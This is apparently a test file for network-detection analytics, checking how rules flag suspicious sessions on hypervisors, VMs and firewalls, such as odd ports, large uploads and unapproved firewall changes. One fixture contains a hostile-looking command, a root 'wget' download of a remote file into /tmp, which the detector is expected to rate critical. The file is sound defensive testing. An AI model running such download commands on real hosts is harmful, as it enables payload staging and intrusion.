import type { SessionAnalytic, SessionContext, SessionEvidence } from '../../../attribution/findings/contract';
import { ANALYTICS } from '../../../attribution/findings/registry';
import { change, context, hex, hostSession, MINUTE, session, T } from './evidence';

const analytic = (id: string): SessionAnalytic => {
  const found = ANALYTICS.find((each) => each.id === id);
  if (found?.looksAt !== 'session') throw new Error(`${id} is no session analytic`);
  return found;
};

interface Case {
  readonly name: string;
  readonly session: SessionEvidence;
  readonly context?: SessionContext;
  /** What the match must hold; absent: no match. */
  readonly match?: object;
}

function judge(id: string, cases: readonly Case[]): void {
  describe(id, () => {
    test.each(cases.map((each) => [each.name, each] as const))('%s', (_, { session, context: given, match }) => {
      const found = analytic(id).match(session, given ?? context());
      if (match === undefined) expect(found).toBeUndefined();
      else expect(found).toMatchObject(match);
    });
  });
}

judge('AN0403', [
  {
    name: 'hostd with no room for a handshake',
    session: hostSession({ handshakeRoom: false, sentBytes: 120, receivedBytes: 90 }),
    match: { key: '203.0.113.9:443/tcp', terms: { why: 'no_handshake_room' } },
  },
  {
    name: 'a world on a port nobody knows',
    session: hostSession({ dstPort: 7475, encrypted: 'unknown', encryptedBy: 'unknown_port', ownerName: 'worker' }),
    match: { terms: { why: 'unknown_protocol_on_unknown_port' } },
  },
  { name: 'TLS is AN0762', session: hostSession() },
  { name: 'vCenter', session: hostSession({ handshakeRoom: false, dst: hex('198.51.100.7') }) },
  { name: 'a VM', session: session({ handshakeRoom: false }) },
  { name: 'an attempt', session: hostSession({ handshakeRoom: false, state: 'attempt' }) },
  { name: 'sampled counters say nothing of room', session: hostSession({ handshakeRoom: false, sampling: 'sampled' }) },
]);

judge('AN0762', [
  { name: 'TLS of hostd to the outside', session: hostSession(), match: { terms: { encrypted_by: 'port:443/tcp' } } },
  { name: 'an allowed endpoint', session: hostSession({ dst: hex('198.51.100.7') }) },
  { name: 'no handshake is AN0403', session: hostSession({ handshakeRoom: false }) },
  { name: 'inside', session: hostSession({ networkDirection: 'internal' }) },
]);

judge('AN0636', [
  {
    name: 'a port of no service',
    session: hostSession({ dstPort: 4444 }),
    match: { severity: 'high', terms: { port: 4444 } },
  },
  {
    name: 'inside it is less',
    session: hostSession({ dstPort: 4444, networkDirection: 'internal' }),
    match: { severity: 'medium' },
  },
  { name: 'vMotion', session: hostSession({ dstPort: 8000, networkDirection: 'internal' }) },
  { name: 'what others begin', session: hostSession({ dstPort: 4444, networkDirection: 'inbound' }) },
]);

judge('AN0404', [
  { name: 'no room for a handshake on 443', session: session({ handshakeRoom: false }), match: { severity: 'medium' } },
  {
    name: 'first bytes that are no TLS',
    session: session({ payloadProtocol: 'ssh' }),
    match: { terms: { why: 'payload_not_tls' } },
  },
  {
    name: 'a firewall that does not know the application',
    session: session({ application: 'unknown-tcp' }),
    match: { terms: { why: 'unknown_application' } },
  },
  {
    name: 'volume on an unknown port',
    session: session({ dstPort: 7475, encrypted: 'unknown', encryptedBy: 'unknown_port', sentBytes: 2_000_000 }),
    match: { terms: { why: 'volume_on_unknown_port' } },
  },
  {
    name: 'a device is worse than a VM',
    session: session({ handshakeRoom: false, ownerKind: 'device_config', owner: 'device:fw1/unknown' }),
    match: { severity: 'high' },
  },
  {
    name: 'little on an unknown port',
    session: session({ dstPort: 7475, encrypted: 'unknown', encryptedBy: 'unknown_port' }),
  },
  {
    name: 'a port in PortProfiles',
    session: session({ dstPort: 7475, encrypted: 'unknown', encryptedBy: 'unknown_port', sentBytes: 2_000_000 }),
    context: context([], { PortProfiles: new Set([7475]) }),
  },
  { name: 'plain TLS', session: session() },
  {
    name: 'a device without a line for it',
    session: session({ ownerKind: 'device_config', owner: 'device:fw1', ownerName: 'fw1' }),
    match: { severity: 'medium', terms: { why: 'no_line_declares_it' } },
  },
  {
    name: 'a declared session of a device',
    session: session({ ownerKind: 'device_config', owner: 'device:fw1/syslog/203.0.113.9', ownerName: 'fw1' }),
  },
]);

judge('AN0763', [
  {
    name: 'TLS on 53',
    session: session({ dstPort: 53, encryptedBy: 'eta:tls' }),
    match: { severity: 'high', terms: { encrypted_by: 'eta:tls' } },
  },
  {
    name: 'TLS on an unknown port',
    session: session({ dstPort: 7676, encryptedBy: 'app:ssl' }),
    match: { severity: 'medium' },
  },
  { name: 'TLS on 443', session: session({ encryptedBy: 'app:ssl' }) },
  { name: 'the port alone says nothing', session: session({ dstPort: 53, encryptedBy: 'port:53/tcp' }) },
]);

judge('AN0991', [
  {
    name: 'five gigabytes out',
    session: session({ sentBytes: 5e9, receivedBytes: 1e7 }),
    match: { terms: { megabytes: 5000 } },
  },
  { name: 'a download', session: session({ sentBytes: 1e7, receivedBytes: 5e9 }) },
  { name: 'not counted', session: session({ sentBytes: null }) },
]);

judge('AN1228', [
  { name: 'a VM', session: session({ dst: hex('1.1.1.1') }), match: { severity: 'low' } },
  { name: 'a hypervisor', session: hostSession({ dst: hex('8.8.8.8') }), match: { severity: 'high' } },
  { name: 'plain DNS', session: session({ dst: hex('8.8.8.8'), dstPort: 53 }) },
]);

judge('AN1258', [
  {
    name: 'an hour of ICMP both ways',
    session: session({ protocol: 1, dstPort: null, end: T + 60 * MINUTE }),
    match: { terms: { protocol: 1, minutes: 60 } },
  },
  { name: 'a single ping', session: session({ protocol: 1, dstPort: null, end: T + 1000 }) },
  {
    name: 'a declared tunnel',
    session: session({ protocol: 50, dstPort: null, end: T + 60 * MINUTE, ownerKind: 'device_config' }),
  },
]);

judge('AN1125', [
  {
    name: 'a public resolver',
    session: hostSession({ dstPort: 53, protocol: 17 }),
    match: { key: '203.0.113.9:53/udp' },
  },
  { name: 'an allowed one', session: hostSession({ dstPort: 53, dst: hex('198.51.100.7') }) },
]);

judge('AN0078', [
  {
    name: 'a socket of a python world',
    session: hostSession({ owner: 'service:esx1/python', ownerName: 'python on esx1' }),
    match: { severity: 'high', terms: { process: 'python' } },
  },
  {
    name: 'wget typed before',
    session: hostSession({ owner: 'service:esx1/wget', ownerName: 'wget on esx1' }),
    context: context([change({ command: 'wget http://203.0.113.9/x -O /tmp/x' })]),
    match: { severity: 'critical', terms: { user: 'root' }, changes: [{ num: 1 }] },
  },
  {
    name: 'a command that names the destination',
    session: hostSession(),
    context: context([change({ command: 'esxcli system syslog config set --loghost=203.0.113.9' })]),
    match: { severity: 'high' },
  },
  {
    name: "ascribe's own visit",
    session: hostSession(),
    context: context([change({ command: 'wget x', own: true })]),
  },
  {
    name: 'typed too long ago',
    session: hostSession(),
    context: context([change({ command: 'wget x', at: T - 31 * MINUTE })]),
  },
  { name: 'hostd by itself', session: hostSession() },
]);

const nat = {
  ruleDevice: 'fw1',
  ruleName: 'out',
  ruleText: 'nat (inside,outside) source static web 203.0.113.80',
  ruleLine: 40,
  ruleAuthor: 'mallory',
  ruleCommittedAt: T - 10 * MINUTE,
};
const ticket = {
  device: 'fw1',
  text: 'static web',
  from: T - 60 * MINUTE,
  to: T,
  reference: 'CHG-1',
};

judge('AN0465', [
  {
    name: 'a translation committed ten minutes before',
    session: session(nat),
    match: { key: 'fw1/out', severity: 'high', terms: { author: 'mallory', line: 40, changed_at: T - 10 * MINUTE } },
  },
  {
    name: 'an approved change is kept as such',
    session: session(nat),
    context: context([], { ApprovedChangeList: [ticket] }),
    match: { approvedBy: 'CHG-1' },
  },
  {
    name: 'an approval of another time does not count',
    session: session(nat),
    context: context([], { ApprovedChangeList: [{ ...ticket, to: T - 20 * MINUTE }] }),
    match: { severity: 'high' },
  },
  {
    name: 'an authorized admin',
    session: session(nat),
    context: context([], { AuthorizedAdmins: new Set(['mallory']) }),
    match: { severity: 'medium' },
  },
  { name: 'an old rule', session: session({ ...nat, ruleCommittedAt: T - 31 * MINUTE }) },
  { name: 'a rule changed after the session', session: session({ ...nat, ruleCommittedAt: T + 1 }) },
  {
    name: 'an access rule is AN0015',
    session: session({ ...nat, ruleText: 'access-list out permit ip host a host b' }),
  },
]);

judge('AN0015', [
  {
    name: 'a command that names the rule, where the configuration states no time',
    session: session({
      ...nat,
      ruleText: 'access-list out extended permit tcp any any eq 443',
      ruleCommittedAt: null,
      ruleAuthor: null,
    }),
    context: context([
      change({
        device: 'fw1',
        parser: 'cisco_asa',
        user: 'mallory',
        command: 'access-list out extended permit tcp any any eq 443',
      }),
    ]),
    match: { key: 'fw1/out', terms: { author: 'mallory' }, changes: [{ num: 1 }] },
  },
  {
    name: 'a command typed after the configuration was read',
    session: session({ ...nat, ruleText: 'access-list out permit tcp any any', ruleCommittedAt: T - 2000 * MINUTE }),
    context: context([
      change({
        device: 'fw1',
        parser: 'cisco_asa',
        user: 'mallory',
        command: 'access-list out permit tcp any host 203.0.113.9 eq 443',
      }),
    ]),
    match: { terms: { author: 'mallory' } },
  },
  {
    name: 'a command about another host of the same list',
    session: session({ ...nat, ruleText: 'access-list out permit tcp any any', ruleCommittedAt: null }),
    context: context([
      change({ device: 'fw1', parser: 'cisco_asa', command: 'access-list out permit tcp any host 192.0.2.20 eq 443' }),
    ]),
  },
  {
    name: 'a command about another port',
    session: session({ ...nat, ruleText: 'access-list out permit tcp any any', ruleCommittedAt: null }),
    context: context([
      change({
        device: 'fw1',
        parser: 'cisco_asa',
        command: 'access-list out permit tcp any host 203.0.113.9 eq 8443',
      }),
    ]),
  },
  {
    name: 'a command about another rule',
    session: session({ ...nat, ruleText: 'access-list out permit ip any any', ruleCommittedAt: null }),
    context: context([change({ device: 'fw1', parser: 'cisco_asa', command: 'access-list dmz permit ip any any' })]),
  },
]);
